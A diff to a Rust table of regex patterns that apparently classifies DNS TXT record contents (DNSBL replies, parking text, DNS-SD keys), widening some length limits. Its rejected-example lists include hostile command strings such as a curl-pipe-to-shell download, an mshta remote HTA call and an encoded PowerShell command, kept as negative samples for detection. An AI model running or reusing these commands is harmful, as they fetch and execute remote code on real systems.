@@ -47,7 +47,7 @@ pub(super) static TYPES: [Type; 44] = [
     form("moneropulse", Infrastructure, r"[a-z][a-z0-9-]{2,24}:[a-z0-9-]{3,24}:[0-9]{1,3}(?:\.[0-9]{1,4}){1,4}:{hex}{64}|[0-9]{4,8}:{hex}{64}", &["monero:linux-x64:0.18.4.0:0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f5219ab4d0e8f435b6a7c8d9e0f"], &["monero:linux-x64:0.18.4.0:d2hvYW1p"], "a digest", "https://github.com/monero-project/monero"),
     form("update_note", Infrastructure, r"(?:emails|phishing)\.[0-9]{4}-[0-9]{1,3}A?\.[0-9]{1,2}|count=[0-9]{1,4}|[0-9]{7}", &["emails.2012-15A.4", "count=50", "1907730"], &["count=x"], "", "https://spamassassin.apache.org/, push.apple.com"),
     // ---- reputation
-    form("dnsbl", Reputation, r"(?:(?:{ip4}|[A-Za-z0-9][A-Za-z0-9./-]{0,19})[,:]? ){0,8}[A-Za-z/]{0,12}(?i:block|listed|spam|infected|exploit|dynamic|proxy|hijack|refused|resolver|brute|reputation|compromised|policy|snowshoe|phishing|test)[A-Za-z/]{0,10}[.,:;]{0,2}(?: (?:[A-Za-z0-9][A-Za-z0-9./-]{0,19}|-)[.,:;]?){0,8} <?{url}>?(?: for more information)?(?: \[Your DNS IP: {ip4}\])?",
+    form("dnsbl", Reputation, r"(?:(?:{ip4}|[A-Za-z0-9][A-Za-z0-9./-]{0,31})[,:]? ){0,8}[A-Za-z/]{0,12}(?i:block|listed|spam|infected|exploit|dynamic|proxy|hijack|refused|resolver|brute|reputation|compromised|policy|snowshoe|phishing|test)[A-Za-z/]{0,10}[.,:;]{0,2}(?: (?:[A-Za-z0-9][A-Za-z0-9./-]{0,19}|-)[.,:;]?){0,8} <?{url}>?(?: for more information)?(?: \[Your DNS IP: {ip4}\])?",
         &["Blocked - see https://www.spamcop.net/bl.shtml?192.0.2.4", "Exploitable Server See: http://www.sorbs.net/lookup.shtml?192.0.2.4"], &["Blocked d2hvYW1p", "powershell -enc d2hvYW1p", "curl -s http://192.0.2.4/a | sh", "mshta http://192.0.2.4/a.hta"], "words and a path", "RFC 5782"),
     form("malware_hash", Reputation, "[0-9]{10} [0-9]{1,3}", &["1277221946 79"], &["1277221946 x"], "", "https://www.team-cymru.com/mhr"),
     form("tor_exit", Reputation, "N:[A-Za-z0-9]{1,19}/P:[0-9]{1,5}(?:,[0-9]{1,5})*/F:[A-Z]{1,10}", &["N:example/P:443,80/F:EFHRSV"], &["N:a b/P:1/F:E"], "a nickname of 19 characters", "https://www.dan.me.uk/dnsbl"),
@@ -78,7 +78,7 @@ pub(super) static TYPES: [Type; 44] = [
     // ---- text for people and browsers
     form("url", Http, "{url}", &["https://example.net/a?b=c#d", "http://example.net"], &["https://localhost/", "https://example.net/ d2hvYW1p", "ftp://example.net/"], PATH, "RFC 3986"),
     form("redirect", Http, "(?:v=txtv[0-9]; ?)?(?:ALIAS for {host}|[1-9a-z]\\|(?:{host}|{url}|[a-z]{2,8})|(?:to|to=|Redirects to |redirect[ =:]) ?{url}(?:; ?(?:type|code)=[a-z0-9]{1,10})?)", &["1|www.example.fr", "ALIAS for edge.example.net"], &["1|d2hvYW1pd2hvYW1p"], PATH, "OVH, DNSimple, redirect services"),
-    form("parking", Text, "(?i:this (?:domain|site|name|website)|domain|diese domain|ce (?:nom de )?domaine|este dominio|questo dominio)(?: (?:[^\\x00-\\x20\\x21-\\x26=\\x7f]{1,16})){1,6}[.!]?(?: -)?(?: [^\\x00-\\x20=\\x7f]{1,60}){0,8}", &["This domain is parked", "Diese Domain steht zum Verkauf", "This domain is for sale - contact sales@example.net"],
+    form("parking", Text, "(?i:this (?:domain|site|name|website)|domain|diese domain|ce (?:nom de )?domaine|este dominio|questo dominio)(?: (?:[^\\x00-\\x20\\x21-\\x26=\\x7f]{1,16})){1,6}[.!]?(?: -)?(?: [^\\x00-\\x20=\\x7f]{1,100}){0,8}", &["This domain is parked", "Diese Domain steht zum Verkauf", "This domain is for sale - contact sales@example.net"],
         &["This domain", "parked", "Domain: powershell -enc d2hvYW1p=", "this domain TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAA"], "a sentence", "parking services"),
 ];
 
@@ -94,7 +94,7 @@ fn dns_sd(bytes: &[u8]) -> bool {
     let (Some(0), Some(last)) = (starts.first().copied(), starts.last().copied()) else { return false };
     let short = starts.windows(2).all(|pair| pair[1] - pair[0] <= LONGEST_PAIR) && text.len() - last <= LONGEST_PAIR;
     // A pair or two alone is a claim that anybody can make; a few keys stand alone in practice.
-    short && !text.contains(';') && (starts.len() >= 3 || starts.len() == 2 && text.len() <= 96 || ["model=", "bridgeid=", "macaddress=", "id=", "path=/", "bt=", "org.freedesktop.Avahi.cookie="].iter().any(|key| text.starts_with(key) && text.len() <= 48))
+    short && !text.contains(';') && (starts.len() >= 3 || starts.len() == 2 && text.len() <= 120 || ["model=", "bridgeid=", "macaddress=", "id=", "path=/", "bt=", "org.freedesktop.Avahi.cookie="].iter().any(|key| text.starts_with(key) && text.len() <= 48))
 }
 
 /// The longest `key=value` taken for one: a public key of 64 hexadecimal digits, a list of document formats.
